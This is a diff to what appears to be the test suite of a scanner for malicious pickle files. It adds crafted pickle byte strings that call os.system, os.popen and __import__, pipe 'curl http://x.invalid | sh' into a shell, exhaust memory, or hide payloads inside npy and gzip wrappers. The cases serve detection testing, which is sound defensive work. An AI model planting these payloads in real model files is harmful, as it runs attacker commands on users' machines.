@@ -116,6 +116,25 @@ CLOSED = {
     "test support": made("test.support", "run_code"),
     "tensor with a command": b"\x80\x04ctorch.storage\n_load_from_bytes\n"
     b"B\x1a\x00\x00\x00" + EVIL.ljust(26) + b"\x85R.",
+    "program of a package": made("torch.__main__", "x"),
+    "tensor whose bytes come from elsewhere": b"\x80\x04B\x1a\x00\x00\x00"
+    + EVIL.ljust(26)
+    + b"\x940ctorch.storage\n_load_from_bytes\nh\x00\x85R.",
+    "function named by a text": made("water.tools", "locate", b"S'os.system'\n\x85"),
+    "function named by two texts": made("water.tools", "find", b"S'os'\nS'system'\n\x86"),
+    "code handed over": made("water.tools", "go", b"S'__import__(1)'\n\x85"),
+    "command handed over": made("water.tools", "go", b"S'curl http://x.invalid | sh'\n\x85"),
+    "code for a known class": made("sklearn.svm", "SVC", b"S'import os; os.popen(1)'\n\x85"),
+    "address for a known class": made("xgboost", "DMatrix", b"S'http://x.invalid/a'\n\x85"),
+    "module of numpy's own importer": made(
+        "numpy.core", "_ufunc_reconstruct", b"S'os'\nS'getpid'\n\x86"
+    ),
+    "file opened by an unknown package": made("water.files", "load"),
+    "shell of an unknown package": made("water.tools", "ShellTool"),
+    "weights fetched": made("transformers", "AutoModel.from_pretrained"),
+    "memory filled by a number": b"cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.",
+    "memory filled by counting": b"cbuiltins\nlist\ncitertools\ncount\n)R\x85R.",
+    "dialog of Python 2": made("tkFileDialog", "askopenfile"),
     "tensor in an archive": b"\x80\x04ctorch.storage\n_load_from_bytes\n"
     b"B\x05\x00\x00\x00PK\x03\x04x\x85R.",
 }
@@ -129,6 +148,7 @@ HELD = {
     "getattr, though also called": b"](cbuiltins\ngetattr\nq\x00cwater\nM\nS'x'\n\x86Rh\x00e.",
     "partial": b"cfunctools\npartial\ncos\nsystem\n\x85R.",
     "name worked out": b"\x80\x04cbuiltins\nstr\nS'os'\n\x85RS'system'\n\x93.",
+    "shell of an unknown package": b"]cwater.tools\nrun_shell\na.",
     "named arguments": b"\x80\x04csklearn.svm\nSVC\n)}S'k'\ncos\nsystem\ns\x92.",
     "dropped": b"cos\nsystem\n0N.",
     "before it breaks": b"cos\nsystem\n\xff",
@@ -189,7 +209,10 @@ WRAPPED = {
     "zip in stored zip": zip_file({"inner.zip": zip_file({"m.pkl": EVIL})}, packed=False),
     "npz": zip_file({"a.npy": npy_file(), "b.npy": npy_file("'|O'", "(1,)", EVIL)}),
     "npy": npy_file("'|O'", "(1,)", EVIL),
+    "behind an array": npy_file() + EVIL,
+    "in the second array": npy_file() + npy_file("'|O'", "(1,)", EVIL),
     "gzip": gzip.compress(EVIL),
+    "gzip, wrong checksum": gzip.compress(EVIL)[:-8] + b"\x00" * 8,
     "zlib": zlib.compress(EVIL),
 }
 
@@ -285,6 +308,8 @@ UNKNOWN = {
     b"S'make'\n\x86R)R.",
     "partial of something unknown": b"cfunctools\npartial\ncwater\nforecast\n\x85R)R.",
     "tensor inside a plain pickle": made("torch.storage", "_load_from_bytes"),
+    "model inside bytes": made("keras.src.saving", "KerasSaveable._unpickle_model"),
+    "data in the arguments": made("water.models", "load_from_bytes"),
     "main": made("__main__", "Net", b")", b"\x81."),
 }
 
